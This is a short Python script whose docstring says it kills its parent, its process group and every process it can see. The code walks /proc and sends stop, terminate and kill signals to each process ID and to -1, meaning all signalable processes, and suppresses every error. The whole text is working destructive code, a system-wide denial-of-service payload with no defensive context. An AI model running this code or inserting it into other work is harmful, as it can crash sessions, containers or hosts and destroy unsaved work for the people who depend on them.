"""Kills its parent, its group's others, and every process that it sees."""

import contextlib
import os
import signal
from pathlib import Path

others = [int(process.name) for process in Path("/proc").glob("[0-9]*")]
for target in [os.getppid(), -1, *others]:
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        if target != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(target, number)
